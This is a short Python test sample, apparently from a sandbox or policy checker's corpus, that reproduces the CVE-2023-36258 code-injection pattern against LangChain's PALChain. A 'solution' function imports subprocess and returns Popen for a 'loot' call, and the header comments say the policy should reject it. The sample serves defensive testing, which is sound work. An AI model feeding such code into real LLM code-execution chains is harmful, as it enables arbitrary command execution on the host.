# aim: run a command inside of the function that the chain calls
# mechanism: an import in a function called solution
# source: CVE-2023-36258 (LangChain's PALChain)
# language: check
# reason: the policy does not authorize subprocess
# jail: process
# plain: loot
def solution():
    import subprocess
    return subprocess.Popen

loot(solution())
